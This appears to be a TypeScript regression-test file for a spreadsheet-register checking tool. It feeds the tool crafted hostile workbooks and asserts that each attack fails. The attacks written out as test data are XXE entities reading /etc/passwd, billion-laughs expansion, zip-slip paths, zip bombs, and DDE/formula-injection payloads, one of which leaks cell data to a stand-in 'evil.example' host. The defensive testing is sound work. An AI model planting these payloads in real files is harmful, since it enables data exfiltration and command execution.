import { mkdirSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { strFromU8, strToU8, unzipSync, zipSync } from "fflate";
import { runCli } from "../../helpers/cli-run";
import { registerOf } from "../../cli/outputs-helpers";
import { oleFile, PNG, withChart } from "../../hosts/xlsx/fixtures";
import { AttackCase, AS_OF, checkRun } from "../attack-case";
import { deflated, RawEntry, repeated, zipRaw } from "../zip-raw";

/**
 * Attack cases that already held when the campaign of issue 14 was run, kept so that they go on
 * holding: entities (expansion and external), zip-slip names, formula and DDE payloads, zip bombs,
 * deep XML, millions of shared strings, encrypted and legacy formats, the preservation of every
 * part the check does not touch, determinism, truncated and empty files. Each input is a real
 * register (ExcelJS, test/cli/outputs-helpers.ts) edited at the zip or XML level.
 * See test/attacks/attack-case.ts.
 */

const SMALL = { mb: 64, seconds: 10 };

type Parts = Record<string, Uint8Array>;

/** A one-club register's parts: CLB is sheet1, Thành viên sheet2, Quỹ sheet3 (ExcelJS's order). */
async function registerParts(dir: string): Promise<Parts> {
  const scratch = join(dir, "register.xlsx");
  await registerOf(scratch, "VQ-01");
  const parts = unzipSync(readFileSync(scratch));
  rmSync(scratch);
  return parts;
}

const edit = (parts: Parts, name: string, f: (xml: string) => string): void => {
  const before = strFromU8(parts[name]!);
  const after = f(before);
  if (after === before) throw new Error(`the edit of ${name} changed nothing`);
  parts[name] = strToU8(after);
};

/** Puts a DOCTYPE before the root element of an XML part. */
const withDoctype = (xml: string, doctype: string): string =>
  xml.replace(/(<\?xml[^>]*\?>\s*)?</, (_m, decl?: string) => `${decl ?? ""}${doctype}<`);

/** Nine levels of ten: a billion "lol"s if anything expands them. */
const LAUGHS =
  `<!DOCTYPE lolz [<!ENTITY lol "lol">` +
  Array.from(
    { length: 9 },
    (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i === 0 ? "" : i};`.repeat(10)}">`,
  ).join("") +
  `]>`;
const XXE = `<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>`;

/** Neither the report nor the copy holds the expansion or the file an entity points at. */
const nothingExpanded = (dir: string): void => {
  for (const file of ["out.xlsx", "report.json"]) {
    let text: string;
    try {
      const bytes = readFileSync(join(dir, file));
      text =
        file === "out.xlsx"
          ? Object.values(unzipSync(bytes))
              .map((p) => strFromU8(p))
              .join("\n")
          : bytes.toString("utf8");
    } catch {
      continue;
    }
    if (/root:.*:0:0:/.test(text)) throw new Error(`${file} holds /etc/passwd`);
    if (text.includes("lollollol")) throw new Error(`${file} holds an expanded entity`);
  }
};

/** Where each entity goes: the part, and how it is used there. */
const ENTITY_SITES: ReadonlyArray<[site: string, part: string, use: (xml: string) => string]> = [
  [
    "shared-strings",
    "xl/sharedStrings.xml",
    (xml) => xml.replace(/<t>Thành viên VQ-01 1<\/t>/, "<t>&ENT;</t>"),
  ],
  [
    "workbook",
    "xl/workbook.xml",
    (xml) =>
      xml.replace(
        /<\/workbook>/,
        '<definedNames><definedName name="x">&ENT;</definedName></definedNames></workbook>',
      ),
  ],
  [
    "sheet",
    "xl/worksheets/sheet2.xml",
    (xml) =>
      xml.replace(
        /<\/sheetData>/,
        '<row r="999"><c r="A999" t="inlineStr"><is><t>&ENT;</t></is></c></row></sheetData>',
      ),
  ],
];

const entityCases = (
  kind: "billion-laughs" | "xxe",
  doctype: string,
  entity: string,
): AttackCase[] =>
  ENTITY_SITES.map(([site, part, use]) => ({
    id: `${kind}-${site}`,
    what: `${kind === "xxe" ? 'an external entity (SYSTEM "file:///etc/passwd")' : "nested entities that expand to a billion lols"} in ${part}: never expanded, never fetched`,
    setup: async (dir: string) => {
      const parts = await registerParts(dir);
      edit(parts, part, (xml) => {
        const used = use(xml);
        if (!used.includes("&ENT;")) throw new Error(`no place for the entity in ${part}`);
        return withDoctype(used.replace("&ENT;", `&${entity};`), doctype);
      });
      writeFileSync(join(dir, "in.xlsx"), zipSync(parts));
      return checkRun(dir);
    },
    // The register itself has findings (exit 1): the entity is read as nothing, the check goes on.
    expect: { exit: 1, files: { "out.xlsx": true, "report.json": true }, check: nothingExpanded },
    budget: SMALL,
  }));

/** Formula and DDE payloads, as a user (or an attacker) may type them into a register. */
const PAYLOADS = [
  "=cmd|'/c calc'!A1",
  "+cmd|'/c calc'!A1",
  "-2+3+cmd|'/c calc'!A1",
  "@SUM(1+1)*cmd|'/c calc'!A1",
  '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")',
];

const escapeXml = (s: string): string =>
  s.replace(/&/g, "&amp;").replace(/</g, "&lt;").replace(/>/g, "&gt;").replace(/"/g, "&quot;");

/** Every cell of every worksheet of a package: its part, its attributes and its inner XML. */
function cellsOf(parts: Parts): Array<{ part: string; attrs: string; inner: string }> {
  return Object.keys(parts)
    .filter((p) => /^xl\/worksheets\/[^/]+\.xml$/.test(p))
    .flatMap((part) =>
      [...strFromU8(parts[part]!).matchAll(/<c\b([^>]*?)(?:\/>|>([\s\S]*?)<\/c>)/g)].map((m) => ({
        part,
        attrs: m[1]!,
        inner: m[2] ?? "",
      })),
    );
}

const unescapeXml = (s: string): string =>
  s
    .replace(/&lt;/g, "<")
    .replace(/&gt;/g, ">")
    .replace(/&quot;/g, '"')
    .replace(/&apos;/g, "'")
    .replace(/&amp;/g, "&");

/** The text of an <si> or <is>: its <t> runs, unescaped. */
const textOf = (xml: string): string =>
  [...xml.matchAll(/<t\b[^>]*>([\s\S]*?)<\/t>/g)].map((m) => unescapeXml(m[1]!)).join("");

/**
 * In the checked copy, no formula names a payload, every cell holding one is text (a shared or
 * inline string), and the sheets the check wrote (its findings) quote every payload.
 */
function payloadsAsText(dir: string, inputParts: readonly string[]): void {
  const parts = unzipSync(readFileSync(join(dir, "out.xlsx")));
  const sst = [
    ...strFromU8(parts["xl/sharedStrings.xml"] ?? strToU8("")).matchAll(/<si>([\s\S]*?)<\/si>/g),
  ].map((m) => textOf(m[1]!));
  const quoted = new Set<string>();
  for (const cell of cellsOf(parts)) {
    const f = /<f\b[^>]*>([\s\S]*?)<\/f>/.exec(cell.inner)?.[1] ?? "";
    if (/cmd\||HYPERLINK|calc/i.test(f))
      throw new Error(`a formula in ${cell.part} runs a payload: ${f}`);
    const type = /\bt="([^"]+)"/.exec(cell.attrs)?.[1];
    const text =
      type === "s"
        ? (sst[Number(/<v>(\d+)<\/v>/.exec(cell.inner)?.[1])] ?? "")
        : type === "inlineStr"
          ? textOf(cell.inner)
          : unescapeXml(cell.inner);
    for (const p of PAYLOADS.filter((p) => text.includes(p))) {
      if (type !== "s" && type !== "inlineStr")
        throw new Error(`a cell of ${cell.part} holding ${p} is not text: <c${cell.attrs}>`);
      if (!inputParts.includes(cell.part)) quoted.add(p);
    }
  }
  const unquoted = PAYLOADS.filter((p) => !quoted.has(p));
  if (unquoted.length > 0)
    throw new Error(`the check's own sheets quote none of: ${unquoted.join(" ; ")}`);
}

/** Parts a check rewrites (README: the copy adds its sheets, highlights and styles). */
const TOUCHED =
  /^(\[Content_Types\]\.xml|xl\/workbook\.xml|xl\/_rels\/workbook\.xml\.rels|xl\/styles\.xml|xl\/sharedStrings\.xml|docProps\/app\.xml|xl\/worksheets\/(_rels\/)?sheet\d+\.xml(\.rels)?)$/;

/** Members' rows 2 and on of sheet2 (ExcelJS's "Thành viên"): sex in column C, birth in D. */
async function payloadRegister(dir: string): Promise<Parts> {
  const parts = await registerParts(dir);
  edit(parts, "xl/worksheets/sheet2.xml", (xml) =>
    PAYLOADS.reduce(
      (x, p, i) =>
        x.replace(
          new RegExp(`(<c r="C${i + 2}"[^>]*?)(?: t="s")?>\\s*<v>\\d+</v>\\s*</c>`),
          `$1 t="inlineStr"><is><t>${escapeXml(p)}</t></is></c>`,
        ),
      xml,
    ),
  );
  return parts;
}

/** 120 bytes of XML per row, numbers varying so that it deflates only about 10 to 1. */
function plainRows(bytes: number): string {
  const rows: string[] = [];
  for (let r = 2, size = 0; size < bytes; r++) {
    const row = `<row r="${r}"><c r="A${r}"><v>${(r * 7919) % 100_003}</v></c><c r="B${r}"><v>${(r * 104_729) % 999_983}</v></c></row>`;
    rows.push(row);
    size += row.length;
  }
  return rows.join("");
}

const sheetOpen = (xml: string): string => xml.slice(0, xml.indexOf("<sheetData>") + 11);
const sheetClose = (xml: string): string => xml.slice(xml.indexOf("</sheetData>"));

/** The register's parts as raw entries, with one part replaced by `entry`. */
const rawWith = (parts: Parts, entry: RawEntry): RawEntry[] =>
  Object.entries(parts).map(([name, bytes]) =>
    name === entry.name ? entry : deflated(name, bytes),
  );

/** Writes in.xlsx: the register with `bytes` of spaces in its members' sheet; returns its size. */
async function bombRegister(dir: string, bytes: number): Promise<number> {
  const parts = await registerParts(dir);
  const sheet = strFromU8(parts["xl/worksheets/sheet2.xml"]!);
  const bomb = repeated(
    "xl/worksheets/sheet2.xml",
    sheetOpen(sheet),
    0x20,
    bytes,
    sheetClose(sheet),
  );
  writeFileSync(join(dir, "in.xlsx"), zipRaw(rawWith(parts, bomb)));
  return bomb.size;
}

const SHARED_STRINGS = 2_000_000;

export const CASES: readonly AttackCase[] = [
  ...entityCases("billion-laughs", LAUGHS, "lol9"),
  ...entityCases("xxe", XXE, "xxe"),
  {
    id: "zip-slip-names",
    what: 'entries named "../../evil", absolute and with backslashes: nothing is written outside the outputs',
    setup: async (dir) => {
      const work = join(dir, "a", "b");
      mkdirSync(work, { recursive: true });
      const parts = await registerParts(dir);
      parts["../../evil-dotdot.txt"] = strToU8("zip-slip");
      parts[`${dir}/evil-absolute.txt`] = strToU8("zip-slip");
      parts["..\\..\\evil-backslash.txt"] = strToU8("zip-slip");
      parts["xl/../../../evil-inner.txt"] = strToU8("zip-slip");
      writeFileSync(join(work, "in.xlsx"), zipSync(parts));
      return checkRun(dir, { input: "a/b/in.xlsx" });
    },
    expect: {
      exit: 1,
      files: { "out.xlsx": true, "report.json": true },
      check: (dir) => {
        for (const f of [
          "evil-dotdot.txt",
          "evil-absolute.txt",
          "evil-backslash.txt",
          "evil-inner.txt",
        ])
          for (const at of [dir, join(dir, "a"), join(dir, "a", "b"), join(dir, "..")])
            try {
              readFileSync(join(at, f));
              throw new Error(`${f} was written in ${at}`);
            } catch (e) {
              if ((e as NodeJS.ErrnoException).code !== "ENOENT") throw e;
            }
      },
    },
    budget: SMALL,
  },
  {
    id: "formula-dde-payloads",
    what: "formula and DDE payloads (=cmd|, +, -, @, HYPERLINK) as members' values: quoted as text in our sheets, never as formulas",
    setup: async (dir) => {
      writeFileSync(join(dir, "in.xlsx"), zipSync(await payloadRegister(dir)));
      return checkRun(dir);
    },
    expect: {
      exit: 1,
      files: { "out.xlsx": true, "report.json": true },
      check: (dir) =>
        payloadsAsText(dir, Object.keys(unzipSync(readFileSync(join(dir, "in.xlsx"))))),
    },
    budget: SMALL,
  },
  {
    id: "zip-bomb-gigabyte",
    what: "a 1 MB members' sheet that unpacks to 1 GB of spaces: stopped at the per-part limit",
    setup: async (dir) => {
      const bomb = await bombRegister(dir, 2 ** 30);
      return { ...checkRun(dir), unpackedBytes: bomb };
    },
    expect: {
      exit: 2,
      message: /vượt giới hạn 512 MB[\s\S]*over the per-part limit of 512 MB/,
      files: { "out.xlsx": false, "report.json": false },
    },
    budget: { mb: 128, seconds: 15 },
  },
  {
    id: "zip-bomb-ratio",
    what: "a 50 KB members' sheet that unpacks to 48 MB of spaces (ratio about 1000, limit 200)",
    setup: async (dir) => {
      const bomb = await bombRegister(dir, 48 * 2 ** 20);
      return { ...checkRun(dir), unpackedBytes: bomb };
    },
    expect: {
      exit: 2,
      message: /200/,
      files: { "out.xlsx": false, "report.json": false },
    },
    budget: { mb: 128, seconds: 15 },
  },
  {
    id: "zip-bomb-size",
    what: "a members' sheet of 24 MB of ordinary rows (ratio about 10) over --max-unpacked-mb 8",
    setup: async (dir) => {
      const parts = await registerParts(dir);
      const sheet = strFromU8(parts["xl/worksheets/sheet2.xml"]!);
      const rows = plainRows(24 * 2 ** 20);
      parts["xl/worksheets/sheet2.xml"] = strToU8(sheetOpen(sheet) + rows + sheetClose(sheet));
      writeFileSync(join(dir, "in.xlsx"), zipSync(parts, { level: 1 }));
      return {
        ...checkRun(dir, { extra: ["--max-unpacked-mb", "8"] }),
        unpackedBytes: rows.length,
      };
    },
    expect: { exit: 2, message: /8 MB/, files: { "out.xlsx": false, "report.json": false } },
    budget: { mb: 96, seconds: 15 },
  },
  {
    id: "deep-xml",
    what: "100,000 nested elements inside a row of the members' sheet",
    setup: async (dir) => {
      const parts = await registerParts(dir);
      edit(parts, "xl/worksheets/sheet2.xml", (xml) =>
        xml.replace(
          /<row r="2"([^>]*)>/,
          `<row r="2"$1>${"<x>".repeat(100_000)}${"</x>".repeat(100_000)}`,
        ),
      );
      writeFileSync(join(dir, "in.xlsx"), zipSync(parts));
      return checkRun(dir);
    },
    expect: { exit: 1, files: { "out.xlsx": true, "report.json": true } },
    budget: SMALL,
  },
  {
    id: "shared-strings-millions",
    what: `${SHARED_STRINGS.toLocaleString("en")} distinct shared strings (the campaign tried 5 million; 2 keeps the suite fast)`,
    setup: async (dir) => {
      const parts = await registerParts(dir);
      const extra: string[] = [];
      for (let i = 0; i < SHARED_STRINGS; i++) extra.push(`<si><t>s${i}</t></si>`);
      const tail = extra.join("");
      edit(parts, "xl/sharedStrings.xml", (xml) =>
        xml.replace(/ (count|uniqueCount)="\d+"/g, "").replace("</sst>", `${tail}</sst>`),
      );
      writeFileSync(join(dir, "in.xlsx"), zipSync(parts, { level: 1 }));
      return { ...checkRun(dir), unpackedBytes: tail.length };
    },
    expect: { exit: 1, files: { "out.xlsx": true, "report.json": true } },
    budget: { mb: 600, seconds: 30 },
  },
  {
    id: "encrypted-workbook",
    what: "a password-protected workbook (an OLE file with an EncryptionInfo stream)",
    setup: (dir) => {
      writeFileSync(join(dir, "in.xlsx"), oleFile("EncryptionInfo"));
      return checkRun(dir);
    },
    expect: {
      exit: 2,
      message: /mật khẩu[\s\S]*password/,
      files: { "out.xlsx": false, "report.json": false },
    },
    budget: SMALL,
  },
  {
    id: "legacy-xls",
    what: "an Excel 97-2003 workbook (OLE with a Workbook stream) named .xlsx",
    setup: (dir) => {
      writeFileSync(join(dir, "in.xlsx"), oleFile("Workbook"));
      return checkRun(dir);
    },
    expect: { exit: 2, message: /97-2003.*\(\.xls\)/, files: { "out.xlsx": false } },
    budget: SMALL,
  },
  {
    id: "csv-as-xlsx",
    what: "a CSV export named .xlsx",
    setup: (dir) => {
      writeFileSync(join(dir, "in.xlsx"), "Họ và tên,Năm sinh\nNguyễn Thị Hoa,1950\n");
      return checkRun(dir);
    },
    expect: {
      exit: 2,
      message: /tệp văn bản \(CSV[\s\S]*text \(CSV/,
      files: { "out.xlsx": false },
    },
    budget: SMALL,
  },
  {
    id: "html-as-xls",
    what: "a web page saved as .xls (what some portals export)",
    setup: (dir) => {
      writeFileSync(
        join(dir, "in.xls"),
        "<html><body><table><tr><td>Họ và tên</td></tr></table></body></html>",
      );
      return checkRun(dir, { input: "in.xls" });
    },
    expect: {
      exit: 2,
      message: /trang web \(HTML\)[\s\S]*web page \(HTML\)/,
      files: { "out.xlsx": false },
    },
    budget: SMALL,
  },
  {
    id: "truncated-file",
    what: "a register cut off at half its length (an interrupted download)",
    setup: async (dir) => {
      const bytes = zipSync(await registerParts(dir));
      writeFileSync(join(dir, "in.xlsx"), bytes.subarray(0, Math.floor(bytes.length / 2)));
      return checkRun(dir);
    },
    expect: {
      exit: 2,
      message: /hỏng[\s\S]*damaged/i,
      files: { "out.xlsx": false, "report.json": false },
    },
    budget: SMALL,
  },
  {
    id: "empty-file",
    what: "an empty file (0 bytes)",
    setup: (dir) => {
      writeFileSync(join(dir, "in.xlsx"), "");
      return checkRun(dir);
    },
    expect: { exit: 2, message: /tệp trống[\s\S]*empty \(0 bytes\)/, files: { "out.xlsx": false } },
    budget: SMALL,
  },
  {
    id: "untouched-parts-preserved",
    what: "a register with a chart, an image and custom XML: every part the check does not rewrite is copied byte for byte",
    setup: async (dir) => {
      const parts = await registerParts(dir);
      parts["customXml/item1.xml"] = strToU8(
        '<?xml version="1.0"?><root xmlns="urn:x">Dữ liệu riêng</root>',
      );
      parts["xl/media/image9.png"] = PNG;
      writeFileSync(join(dir, "in.xlsx"), withChart(zipSync(parts), "xl/worksheets/sheet1.xml"));
      return checkRun(dir);
    },
    expect: {
      exit: 1,
      files: { "out.xlsx": true },
      check: (dir) => {
        const before = unzipSync(readFileSync(join(dir, "in.xlsx")));
        const after = unzipSync(readFileSync(join(dir, "out.xlsx")));
        const kept = Object.keys(before).filter((p) => !TOUCHED.test(p));
        for (const p of ["xl/charts/chart1.xml", "xl/media/image9.png", "customXml/item1.xml"])
          if (!kept.includes(p)) throw new Error(`${p} is not among the parts to keep`);
        const changed = kept.filter(
          (p) => !after[p] || Buffer.compare(Buffer.from(after[p]!), Buffer.from(before[p]!)) !== 0,
        );
        if (changed.length > 0)
          throw new Error(`parts not copied byte for byte: ${changed.join(", ")}`);
      },
    },
    budget: SMALL,
  },
  {
    id: "deterministic-outputs",
    what: "the same register checked twice (same --as-of): byte-identical copies and reports",
    setup: async (dir) => {
      writeFileSync(join(dir, "in.xlsx"), zipSync(await payloadRegister(dir)));
      return checkRun(dir);
    },
    expect: {
      exit: 1,
      files: { "out.xlsx": true, "report.json": true },
      check: async (dir) => {
        // The second run in this process: the same code, another moment and other output names.
        const again = await runCli(
          "check",
          join(dir, "in.xlsx"),
          "--out",
          join(dir, "again.xlsx"),
          "--report",
          join(dir, "again.json"),
          ...AS_OF,
        );
        if (again.code !== 1) throw new Error(`the second run exited ${again.code}: ${again.err}`);
        for (const [a, b] of [
          ["out.xlsx", "again.xlsx"],
          ["report.json", "again.json"],
        ] as const)
          if (Buffer.compare(readFileSync(join(dir, a)), readFileSync(join(dir, b))) !== 0)
            throw new Error(`${a} and ${b} differ`);
      },
    },
    budget: SMALL,
  },
];
